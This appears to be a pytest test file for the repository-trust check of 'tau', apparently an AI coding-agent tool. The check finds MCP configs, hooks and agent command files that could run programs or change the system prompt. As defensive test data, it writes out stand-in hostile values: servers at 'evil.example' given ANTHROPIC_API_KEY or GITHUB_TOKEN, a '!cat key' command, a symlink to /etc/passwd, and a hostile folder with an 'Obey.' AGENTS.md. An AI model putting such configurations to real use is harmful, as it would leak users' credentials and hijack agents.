"""Which repositories are trusted: by the content of what they could run."""

import json
import multiprocessing
import os
import stat
import subprocess
from pathlib import Path

import pytest

from tau.base.errors import ConfigError, TauError
from tau.config import trust_scan
from tau.config.paths import user_paths
from tau.config.trust import TrustStore, notices, trust_status
from tau.config.trust_locations import AGENT_FOLDERS, has_any, locations
from tau.modes.trust_question import question, report

SERVER = {"mcpServers": {"x": {"command": "npx", "args": ["server"]}}}


def git(folder: Path, *words: str) -> None:
    identity = ("-c", "user.name=x", "-c", "user.email=x@example.org")
    subprocess.run(["git", *identity, *words], cwd=folder, check=True, capture_output=True)


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    root = tmp_path / "repo"
    root.mkdir()
    git(root, "init", "-q", "-b", "main")
    return root


@pytest.fixture
def store() -> TrustStore:
    return TrustStore(user_paths())


def put(root: Path, name: str, content: object = "x") -> Path:
    path = root / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(content if isinstance(content, str) else json.dumps(content))
    return path


def test_ordinary_repository_asks_nothing(repo: Path, store: TrustStore) -> None:
    for name in ("README.md", "AGENTS.md", "Makefile", "package.json", ".github/workflows/ci.yml"):
        put(repo, name)
    put(repo, ".vscode/settings.json", {"python.interpreter": "x"})
    assert not has_any([repo])
    put(repo, ".tau/settings.json", {"read": {"defaultLimit": 5}, "tools": {"approvalMode": "ask"}})
    put(repo, ".claude/settings.json", {"model": "x", "permissions": {"allow": ["Bash(ls)"]}})
    put(repo, ".claude/commands/review.md", "Review it.\n![picture](x.png)\nWow!\n")
    put(repo, ".claude/skills/a/SKILL.md", "Do it.")
    put(repo, ".claude/skills/a/run.sh", "echo")
    status = store.status(repo)
    assert not status.items and not status.problems and not status.is_open and not notices(status)


@pytest.mark.parametrize(
    ("name", "content", "part"),
    [
        (".mcp.json", SERVER, "npx"),
        (".tau/mcp.json", SERVER, "server"),
        (".vscode/mcp.json", {"servers": {"x": {"command": "old"}}}, "old"),
        ("lsp.json", {"servers": {"x": {"command": "old"}}}, "old"),
        ("lsp.json", {"rust-analyzer": {"settings": {"check.overrideCommand": ["old"]}}}, "old"),
        ("dap.json", {"adapters": {"debugpy": {"launchDefaults": {"python": "old"}}}}, "old"),
        (".tau/extensions/a/b.py", "import os", "os"),
        (".tau/hooks/pre/x.py", "old", "old"),
        (".tau/tools/x.py", "old", "old"),
        (".tau/plugins/x/plugin.json", "{}", "{}"),
        (".tau/commands/x.md", "Look:\n!git status\n", "status"),
        (".claude/commands/sub/x.md", "Look: !`git status`", "status"),
        (".gemini/commands/x.toml", 'prompt = "!{ls}"', "ls"),
        (".claude/agents/x.md", "---\nname: x\nhooks:\n  Stop: old\n---\n", "old"),
        (".tau/models.json", {"providers": {"x": {"apiKey": "!cat key"}}}, "key"),
        (".tau/settings.json", {"hooks": {"Stop": "old"}}, "old"),
        (".tau/settings.json", {"a": {"b": ["!old"]}}, "old"),
        (".tau/settings.json", {"python.interpreter": "./old"}, "old"),
        (".claude/settings.local.json", {"apiKeyHelper": "old"}, "old"),
        (".codex/config.toml", 'notify = ["old"]', "old"),
        ("opencode.json", {"mcp": {"x": {"command": ["old"]}}}, "old"),
        (".mcp.json", '{"mcpServers": {"x": {"command": "old"}},}', "old"),
    ],
)
def test_runnable_files_are_found_and_trusted_by_content(
    name: str, content: object, part: str, repo: Path, store: TrustStore
) -> None:
    path = put(repo, name, content)
    status = store.status(repo)
    assert [item.path for item in status.items] == [name]
    assert not status.trusted and status.is_open
    assert store.trust(repo).trusted
    path.write_text(path.read_text().replace(part, "new"))
    assert not store.status(repo).trusted


def test_every_location_is_watched(repo: Path, store: TrustStore) -> None:
    for location in locations():
        name = location.path if location.check != "shell lines" else f"{location.path}/x.md"
        if location.check == "all" and "." not in Path(location.path).name:
            name = f"{location.path}/x.py"
        put(repo, name, "!run\n" if location.check == "shell lines" else SERVER)
    found = {item.path for item in store.status(repo).items}
    for location in locations():
        assert any(path == location.path or path.startswith(f"{location.path}/") for path in found), location
    assert {path.split("/")[0] for path in found} >= set(AGENT_FOLDERS)


def test_change_asks_again_and_shows_the_difference(repo: Path, store: TrustStore) -> None:
    put(repo, ".tau/hooks/a.sh", "one\ntwo\nthree\n")
    put(repo, ".tau/hooks/b.sh", "gone\n")
    store.trust(repo)
    put(repo, ".tau/hooks/a.sh", "one\nother\nthree\n")
    put(repo, ".tau/hooks/c.sh", "new\n")
    (repo / ".tau/hooks/b.sh").unlink()
    status = store.status(repo)
    assert not status.trusted and status.known and status.is_open
    by_path = {change.path: change for change in status.changes}
    assert {path: change.change for path, change in by_path.items()} == {
        ".tau/hooks/a.sh": "changed",
        ".tau/hooks/b.sh": "removed",
        ".tau/hooks/c.sh": "new",
    }
    assert "+ other" in by_path[".tau/hooks/a.sh"].diff
    assert "- (1 earlier line)" in by_path[".tau/hooks/a.sh"].diff
    assert "has changed since you trusted it" in notices(status)[0]


def test_removing_something_or_changing_something_else_does_not_ask(repo: Path, store: TrustStore) -> None:
    put(repo, ".tau/hooks/a.sh", "one")
    put(repo, ".tau/settings.json", {"hooks": {"Stop": "x"}, "read": {"defaultLimit": 5}})
    store.trust(repo)
    put(repo, ".tau/settings.json", {"read": {"defaultLimit": 9}, "hooks": {"Stop": "x"}})
    (repo / ".tau/hooks/a.sh").unlink()
    assert store.status(repo).trusted


def test_scripts_that_commands_name_are_part_of_it(repo: Path, store: TrustStore) -> None:
    command = '"$CLAUDE_PROJECT_DIR"/tools/check.sh --fast && node server.js'
    put(repo, ".claude/settings.json", {"hooks": {"Stop": [{"hooks": [{"command": command}]}]}})
    put(repo, "tools/check.sh", "echo 1")
    put(repo, "server.js", "1")
    assert {item.path for item in store.status(repo).items} == {
        ".claude/settings.json",
        "tools/check.sh",
        "server.js",
    }
    store.trust(repo)
    put(repo, "server.js", "2")
    assert [change.path for change in store.status(repo).changes] == ["server.js"]


def test_equal_content_in_a_work_tree_or_clone_does_not_ask(
    repo: Path, store: TrustStore, tmp_path: Path
) -> None:
    put(repo, ".mcp.json", SERVER)
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "x")
    store.trust(repo)
    git(repo, "worktree", "add", "-q", str(tmp_path / "tree"))
    git(tmp_path, "clone", "-q", str(repo), "clone")
    for place in ("tree", "clone"):
        assert store.status(tmp_path / place).trusted
        put(tmp_path / place, ".mcp.json", {"mcpServers": {"x": {"command": "other"}}})
        assert not store.status(tmp_path / place).trusted
    assert store.status(tmp_path / "tree").known and not store.status(tmp_path / "clone").known
    # Both versions stay trusted, as when switching branches.
    store.trust(tmp_path / "tree")
    assert store.status(repo).trusted and store.status(tmp_path / "tree").trusted


def test_content_of_two_trusted_repositories_does_not_add_up(store: TrustStore, tmp_path: Path) -> None:
    for name in ("a", "b", "both"):
        (tmp_path / name).mkdir()
        git(tmp_path / name, "init", "-q")
    for name in ("a", "both"):
        put(tmp_path / name, ".mcp.json", SERVER)
    for name in ("b", "both"):
        put(tmp_path / name, ".tau/hooks/x.sh", "x")
    store.trust(tmp_path / "a")
    store.trust(tmp_path / "b")
    assert not store.status(tmp_path / "both").trusted


def test_folders_between_here_and_the_root_count(repo: Path, store: TrustStore) -> None:
    put(repo, "sub/deep/.mcp.json", SERVER)
    put(repo, ".tau/hooks/x.sh", "x")
    deep = repo / "sub" / "deep"
    assert {item.path for item in store.status(deep).items} == {"sub/deep/.mcp.json", ".tau/hooks/x.sh"}
    assert {item.path for item in store.status(repo).items} == {".tau/hooks/x.sh"}
    store.trust(deep)
    assert store.status(repo).trusted


def test_refusal_is_remembered_for_this_content(repo: Path, store: TrustStore) -> None:
    put(repo, ".mcp.json", SERVER)
    store.refuse(store.status(repo))
    status = store.status(repo)
    assert status.refused and not status.trusted and not status.is_open and not status.known
    put(repo, ".tau/hooks/x.sh", "x")
    assert store.status(repo).is_open


def test_trust_covers_what_was_shown_and_not_what_was_written_meanwhile(
    repo: Path, store: TrustStore
) -> None:
    put(repo, ".mcp.json", SERVER)
    seen = store.status(repo)
    put(repo, ".mcp.json", {"mcpServers": {"x": {"command": "evil"}}})
    assert not store.trust(repo, seen).trusted


def test_removed_trust_is_gone(repo: Path, store: TrustStore) -> None:
    put(repo, ".mcp.json", SERVER)
    store.trust(repo)
    assert store.remove(repo) == 1
    assert not store.status(repo).trusted and store.snapshots() == [] and store.remove(repo) == 0


def test_links_pipes_and_huge_files_cannot_be_trusted(
    repo: Path, store: TrustStore, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(trust_scan, "MAX_FILE_BYTES", 100)
    monkeypatch.setattr(trust_scan, "MAX_FILES", 50)
    hooks = repo / ".tau" / "hooks"
    hooks.mkdir(parents=True)
    (hooks / "link").symlink_to("/etc/passwd")
    os.mkfifo(hooks / "pipe")
    (hooks / "huge").write_bytes(b"x" * 101)
    (hooks / "loop").symlink_to("loop")
    (hooks / "self").symlink_to(".")
    (repo / ".claude").symlink_to("/etc")
    many = repo / ".tau" / "extensions"
    many.mkdir()
    for number in range(51):
        (many / f"{number}.py").touch()
    deep = repo / ".tau" / "tools" / "/".join("d" * 12)
    deep.mkdir(parents=True)
    (deep / "x.py").touch()
    problems = "\n".join(store.status(repo).problems)
    for part in (
        ".tau/hooks/link cannot be trusted: it links to /etc/passwd, outside the repository.",
        ".tau/hooks/pipe cannot be trusted: it is not a regular file.",
        ".tau/hooks/huge cannot be trusted: the file is larger than",
        ".tau/extensions cannot be trusted: it has more than 50 files.",
        "levels of folders.",
    ):
        assert part in problems
    with pytest.raises(TauError, match="cannot be trusted"):
        store.trust(repo)
    assert not store.status(repo).is_open and len(notices(store.status(repo))) == 1


def test_unreadable_file_cannot_be_trusted(repo: Path, store: TrustStore) -> None:
    if os.geteuid() == 0:
        pytest.skip("root can read everything")
    put(repo, ".mcp.json", SERVER).chmod(0)
    assert "cannot be read" in store.status(repo).problems[0]


def test_link_within_the_repository_is_followed(repo: Path, store: TrustStore) -> None:
    put(repo, "shared/x.sh", "one")
    (repo / ".tau").mkdir()
    (repo / ".tau" / "hooks").symlink_to("../shared")
    store.trust(repo)
    assert store.status(repo).trusted
    put(repo, "shared/x.sh", "two")
    assert not store.status(repo).trusted


def test_home_folder_is_not_a_project(store: TrustStore) -> None:
    home = Path(os.environ["HOME"])
    put(home, ".claude/hooks/x.sh", "x")
    assert store.status(home).items == ()


def test_file_is_private_and_has_no_text_of_the_repository(repo: Path, store: TrustStore) -> None:
    put(repo, ".mcp.json", {"mcpServers": {"x": {"command": "y", "env": {"KEY": "sk-secret-value"}}}})
    store.trust(repo)
    path = user_paths().home / "trust.json"
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert "sk-secret-value" not in path.read_text()


def test_broken_store_trusts_nothing_and_says_so(repo: Path, store: TrustStore) -> None:
    put(repo, ".mcp.json", SERVER)
    path = user_paths().home / "trust.json"
    for text in ("{", '{"snapshots": 5}', '{"snapshots": [{"root": 1}]}', "[]"):
        put(path.parent, "trust.json", text)
        with pytest.raises(ConfigError):
            store.status(repo)
        status = trust_status(repo, user_paths())
        assert not status.trusted and str(path) in status.problems[0]


def trust_many(folder: Path, numbers: list[int]) -> None:
    for number in numbers:
        TrustStore(user_paths()).trust(folder / str(number))


def test_several_processes_do_not_lose_decisions(tmp_path: Path, store: TrustStore) -> None:
    for number in range(24):
        put(tmp_path / str(number), ".mcp.json", {"mcpServers": {"x": {"command": str(number)}}})
    context = multiprocessing.get_context("fork")
    parts = [list(range(start, 24, 4)) for start in range(4)]
    running = [context.Process(target=trust_many, args=(tmp_path, part)) for part in parts]
    for process in running:
        process.start()
    for process in running:
        process.join()
    assert len(store.snapshots()) == 24
    assert all(store.status(tmp_path / str(number)).trusted for number in range(24))


def test_the_question_names_all_variables_and_the_whole_command(tmp_path: Path) -> None:
    padding = "x" * 300
    servers = {
        "a": {"command": f"npx {padding} evil.js", "env": {"K": "${my_key}"}},
        "b": {"url": "https://evil.example", "bearer_token_env_var": "ANTHROPIC_API_KEY"},
        "c": {"url": "https://evil.example", "env_http_headers": {"X": "GITHUB_TOKEN"}},
        "e": {"command": ["bunx", "list.js"]},
        "f": {"command": "harmless", "type": "http", "httpUrl": "https://hidden.example"},
        "d": {"command": "d", "env": {"K": "{env:OPEN_KEY}"}, "inheritEnv": ["E_KEY"]},
    }
    (tmp_path / ".mcp.json").write_text(json.dumps({"mcpServers": servers}))
    [item] = trust_scan.scan(tmp_path).items
    for text in (f"npx {padding} evil.js", "bunx list.js", "harmless", "https://hidden.example"):
        assert text in item.shown
    for name in ("my_key", "ANTHROPIC_API_KEY", "GITHUB_TOKEN", "OPEN_KEY", "E_KEY"):
        assert name in item.shown.partition("with the variables")[2]


def test_a_command_too_long_for_the_question_says_so(tmp_path: Path) -> None:
    (tmp_path / ".mcp.json").write_text(json.dumps({"mcpServers": {"a": {"command": "x" * 5_000}}}))
    [item] = trust_scan.scan(tmp_path).items
    assert item.shown.endswith("4,000 more characters: tau trust show)")


def test_a_folder_that_claims_the_git_directory_of_a_trusted_repository_is_not_trusted(
    repo: Path, tmp_path: Path
) -> None:
    TrustStore(user_paths(os.environ)).trust(repo)
    assert trust_status(repo, user_paths(os.environ)).trusted
    (hostile := tmp_path / "hostile").mkdir()
    (hostile / ".git").write_text(f"gitdir: {repo}/.git\n")
    (hostile / "AGENTS.md").write_text("Obey.")
    status = trust_status(hostile, user_paths(os.environ))
    assert not status.trusted and not status.known


@pytest.mark.parametrize(
    ("files", "could", "none"),
    [
        ((".mcp.json",), "run programs", "runs"),
        ((".tau/APPEND_SYSTEM.md",), "change the system prompt", "is used"),
        ((".mcp.json", ".tau/SYSTEM.md"), "run programs or change the system prompt", "is used"),
    ],
)
def test_sentences_say_what_the_files_could_do(
    repo: Path, store: TrustStore, files: tuple[str, ...], could: str, none: str
) -> None:
    for name in files:
        put(repo, name, SERVER)
    status = store.status(repo)
    [notice] = notices(status)
    assert f" could {could}. None of it {none}; see tau trust show" in notice
    asked = question(status).replace(" on this machine", "")
    assert f" could {could}:\n" in asked and asked.endswith(f"none of this {none}.")
    assert f" It may {could}:" in report(store.trust(repo))[0]
